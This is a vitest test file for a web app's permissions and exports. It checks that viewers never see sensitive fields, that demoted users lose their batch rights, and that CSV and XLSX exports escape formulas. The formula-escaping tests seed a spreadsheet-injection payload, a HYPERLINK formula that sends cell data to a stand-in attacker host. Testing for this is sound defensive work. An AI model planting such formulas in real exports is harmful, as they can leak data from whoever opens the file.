// Sensitive fields are never read by viewers — table, search, filters, sorts, counts, exports, batch
// before/after values and results files — and a plan keeps its planner's reach only while the
// planner keeps the role: a user demoted after a preview cannot commit it, nor resume it.
import { text } from "node:stream/consumers";
import { beforeAll, describe, expect, it } from "vitest";
import { allItems, errorOf } from "../../tests/helpers/batch";
import { csvRecords } from "../../tests/helpers/csv";
import { exportFileOf, readStoredFile, runExportNow } from "../../tests/helpers/exports";
import { runToEnd } from "../../tests/helpers/run-batch";
import { seedRows } from "../../tests/helpers/seed";
import { callerAs, sessionCookie } from "../../tests/helpers/session";
import { unzip } from "../../tests/helpers/unzip";
import { pool } from "../db";
import { batchResultsCsv } from "../row-batches/results-csv";
import { DEMO_USERS } from "../seed/demo-users";
import { createCallerFactory, createContext } from "../trpc/init";
import { appRouter } from "../trpc/router";
import { getSessionActor } from "./session";
import type { Role } from "./roles";

type Caller = Awaited<ReturnType<typeof callerAs>>;
let admin: Caller;
let operator: Caller;
let viewer: Caller;
let sender: string;

const demo = (role: Role) => DEMO_USERS.find((u) => u.role === role && !u.email.startsWith("operator2"))!;
const setRole = (email: string, role: Role) => pool().query("UPDATE users SET role = $2 WHERE email = $1", [email, role]);

/** A caller on a new session of the demo user of `role`, whatever that user's role is now. */
async function freshCaller(of: Role) {
  const headers = new Headers({ cookie: await sessionCookie(demo(of).email, demo(of).password) });
  return createCallerFactory(appRouter)(await createContext({ headers }));
}

beforeAll(async () => {
  await seedRows({ letters: 60, products: 20 });
  [admin, operator, viewer] = await Promise.all([callerAs("admin"), callerAs("operator"), callerAs("viewer")]);
  // A sender name no title, status or id contains: found by a quick search only through the sender.
  sender = "Zebulon Quixotic";
  await pool().query("UPDATE letters SET sender_name = $1 WHERE id IN (SELECT id FROM letters ORDER BY id LIMIT 3)", [sender]);
});

describe("sensitive fields and viewers", () => {
  it("the table leaves them out of a viewer's rows and meta, and names them as hidden; operators read them", async () => {
    const seen = await viewer.resources.query({ resource: "letters", pageSize: 5 });
    expect(seen.rows).toHaveLength(5);
    for (const row of seen.rows) expect(Object.keys(row)).not.toEqual(expect.arrayContaining(["content"]));
    expect(seen.rows.some((r) => "senderName" in r || "content" in r)).toBe(false);
    const meta = (await viewer.resources.meta()).find((r) => r.name === "letters")!;
    expect(meta.fields.map((f) => f.name)).not.toContain("senderName");
    expect(meta.hiddenFields.map((f) => f.name).sort()).toEqual(["content", "senderName"]);
    const orders = (await viewer.resources.meta()).find((r) => r.name === "orders")!;
    expect(orders.hiddenFields.map((f) => f.name)).toEqual(["customer"]);

    const full = await operator.resources.query({ resource: "letters", pageSize: 5 });
    expect(full.rows.every((r) => "senderName" in r && "content" in r)).toBe(true);
    expect((await operator.resources.meta()).find((r) => r.name === "letters")!.hiddenFields).toEqual([]);
  });

  it("refuses a viewer's filter or sort on them (FORBIDDEN, naming the field) in the table, the count and an export", async () => {
    const bySender = { scope: "all" as const, filter: { combinator: "and" as const, conditions: [{ field: "senderName", op: "startsWith" as const, value: "Zeb" }] } };
    const nested = { scope: "all" as const, filter: { combinator: "or" as const, conditions: [{ combinator: "and" as const, conditions: [{ field: "content", op: "contains" as const, value: "a" }] }] } };
    // Thunks, called one at a time: promises made all at once reject before they are awaited (unhandled).
    for (const call of [
      () => viewer.resources.query({ resource: "letters", selection: bySender }),
      () => viewer.resources.query({ resource: "letters", selection: nested }),
      () => viewer.resources.query({ resource: "letters", sort: { field: "senderName", dir: "asc" } }),
      () => viewer.resources.count({ resource: "letters", selection: bySender }),
      () => viewer.exports.create({ resource: "letters", format: "csv", target: { kind: "filter", selection: bySender, excludeIds: [] } }),
    ]) {
      const err = await errorOf(call());
      expect(err.code).toBe("FORBIDDEN");
      expect(err.message).toMatch(/(Sender|Content) is sensitive/);
    }
    expect(await operator.resources.count({ resource: "letters", selection: bySender })).toBe(3);
  });

  it("a viewer's quick search does not look in them, in the table, the count or an export", async () => {
    const q = { scope: "all" as const, q: "Quixotic" };
    expect((await operator.resources.query({ resource: "letters", selection: q })).total).toBe(3);
    expect((await viewer.resources.query({ resource: "letters", selection: q })).total).toBe(0);
    expect(await viewer.resources.count({ resource: "letters", selection: q })).toBe(0);
    const empty = await errorOf(viewer.exports.create({ resource: "letters", format: "csv", target: { kind: "filter", selection: q, excludeIds: [] } }));
    expect(empty.message).toMatch(/no rows match/);
    // The same search by an admin finds (and exports) the three letters.
    const batch = await admin.exports.create({ resource: "letters", format: "csv", target: { kind: "filter", selection: q, excludeIds: [] } });
    await runExportNow(batch.id);
    expect((await exportFileOf(batch.id))!.row_count).toBe(3);
  });

  it("batch before/after values and the results CSV leave them out for a user demoted to viewer", async () => {
    const first = await pool().query<{ id: number }>("SELECT id FROM letters WHERE owner_id = (SELECT id FROM users WHERE email = $1) ORDER BY id LIMIT 2", [demo("operator").email]);
    const ids = first.rows.map((r) => r.id);
    const preview = await operator.batch.validate({
      resource: "letters",
      target: { kind: "ids", ids },
      operation: {
        type: "update",
        changes: [
          { op: "set", field: "title", value: "Changed title" },
          { op: "set", field: "senderName", value: "Changed Sender" },
        ],
      },
    });
    const asOperator = await allItems(operator, preview.id);
    expect(asOperator[0]!.before).toHaveProperty("senderName");
    await setRole(demo("operator").email, "viewer");
    try {
      const demoted = await freshCaller("operator");
      const items = await allItems(demoted, preview.id);
      expect(items).toHaveLength(2);
      for (const item of items) {
        expect(item.before).not.toHaveProperty("senderName");
        expect(item.after).not.toHaveProperty("senderName");
        expect(item.before).toHaveProperty("title");
      }
      const actor = await getSessionActor(new Headers({ cookie: await sessionCookie(demo("operator").email, demo("operator").password) }));
      const { body } = await batchResultsCsv(actor!, preview.id, "all");
      const records = csvRecords(await text(body));
      expect(records).toHaveLength(2);
      for (const r of records) {
        expect(r.before).not.toContain("senderName");
        expect(r.after).not.toContain("Changed Sender");
        expect(JSON.parse(r.before!)).toHaveProperty("title");
      }
    } finally {
      await setRole(demo("operator").email, "operator");
    }
  });
});

describe("a plan keeps its planner's reach only while the role does", () => {
  it("an admin demoted to operator after the preview cannot commit it; promoted again, they can", async () => {
    const preview = await admin.batch.validate({
      resource: "products",
      target: { kind: "filter", selection: { scope: "all" }, excludeIds: [] },
      operation: { type: "update", changes: [{ op: "increment", field: "stock", by: 1 }] },
    });
    const stock = await pool().query<{ s: string }>("SELECT sum(stock)::text AS s FROM products");
    await setRole(demo("admin").email, "operator");
    try {
      const demoted = await freshCaller("admin");
      const summary = await demoted.batch.status({ batchId: preview.id });
      expect(summary.allowedActions).not.toContain("commit");
      expect(summary.allowedActions).toContain("discard");
      const err = await errorOf(demoted.batch.execute({ batchId: preview.id }));
      expect(err.code).toBe("FORBIDDEN");
      expect(err.message).toMatch(/previewed with the admin role and your role is now operator/);
      const after = await pool().query<{ s: string; state: string }>("SELECT (SELECT sum(stock)::text FROM products) AS s, state FROM batches WHERE id = $1", [preview.id]);
      expect(after.rows[0]).toEqual({ s: stock.rows[0]!.s, state: "previewed" });
    } finally {
      await setRole(demo("admin").email, "admin");
    }
    const again = await freshCaller("admin");
    await again.batch.execute({ batchId: preview.id });
    await runToEnd(preview.id);
    expect((await again.batch.status({ batchId: preview.id })).state).toBe("completed");
  });

  it("a paused batch cannot be resumed by its planner once demoted, but can still be cancelled", async () => {
    const preview = await admin.batch.validate({
      resource: "products",
      target: { kind: "filter", selection: { scope: "all" }, excludeIds: [] },
      operation: { type: "update", changes: [{ op: "increment", field: "stock", by: 1 }] },
    });
    await admin.batch.execute({ batchId: preview.id });
    await admin.batch.pause({ batchId: preview.id });
    await setRole(demo("admin").email, "operator");
    try {
      const demoted = await freshCaller("admin");
      expect((await demoted.batch.status({ batchId: preview.id })).allowedActions).toEqual(expect.not.arrayContaining(["resume"]));
      expect((await errorOf(demoted.batch.resume({ batchId: preview.id }))).code).toBe("FORBIDDEN");
      expect((await demoted.batch.cancel({ batchId: preview.id })).state).toBe("cancelled");
    } finally {
      await setRole(demo("admin").email, "admin");
    }
  });
});

describe("exports keep formulas from running", () => {
  const formula = '=HYPERLINK("https://evil.example/?d="&C2,"Open")';
  let id: number;
  beforeAll(async () => {
    const { rows } = await pool().query<{ id: number }>("UPDATE letters SET title = $1 WHERE id = (SELECT min(id) FROM letters) RETURNING id", [formula]);
    id = rows[0]!.id;
    await pool().query("UPDATE letters SET title = '@SUM(1)' WHERE id = $1 + 1", [id]);
  });
  const target = () => ({ kind: "ids" as const, ids: [id, id + 1] });

  async function exported(format: "csv" | "xlsx", escapeFormulas?: boolean): Promise<Buffer> {
    const batch = await admin.exports.create({ resource: "letters", format, fields: ["id", "title", "version"], target: target(), ...(escapeFormulas === undefined ? {} : { escapeFormulas }) });
    await runExportNow(batch.id);
    return readStoredFile((await exportFileOf(batch.id))!.id);
  }

  it("CSV prefixes text that starts like a formula with ' by default, and not when asked", async () => {
    const escaped = csvRecords((await exported("csv")).toString("utf8"));
    expect(escaped.map((r) => r.title)).toEqual([`'${formula}`, "'@SUM(1)"]);
    expect(escaped.map((r) => r.version)).toEqual(["1", "1"]);
    const raw = csvRecords((await exported("csv", false)).toString("utf8"));
    expect(raw.map((r) => r.title)).toEqual([formula, "@SUM(1)"]);
  });

  it("XLSX keeps the text as it is and marks those cells quote-prefixed by default", async () => {
    const sheet = (bytes: Buffer) => unzip(bytes).get("xl/worksheets/sheet1.xml")!.toString("utf8");
    const styles = unzip(await exported("xlsx")).get("xl/styles.xml")!.toString("utf8");
    expect(styles).toMatch(/<cellXfs count="5">.*quotePrefix="1"/);
    const escaped = sheet(await exported("xlsx"));
    expect(escaped).toContain(`<c r="B2" s="4" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;`.replace("&quot;", '"'));
    expect(escaped).toMatch(/<c r="B3" s="4" t="inlineStr">/);
    expect(escaped).not.toMatch(/<f>/);
    const raw = sheet(await exported("xlsx", false));
    expect(raw).toMatch(/<c r="B2" t="inlineStr">/);
  });
});
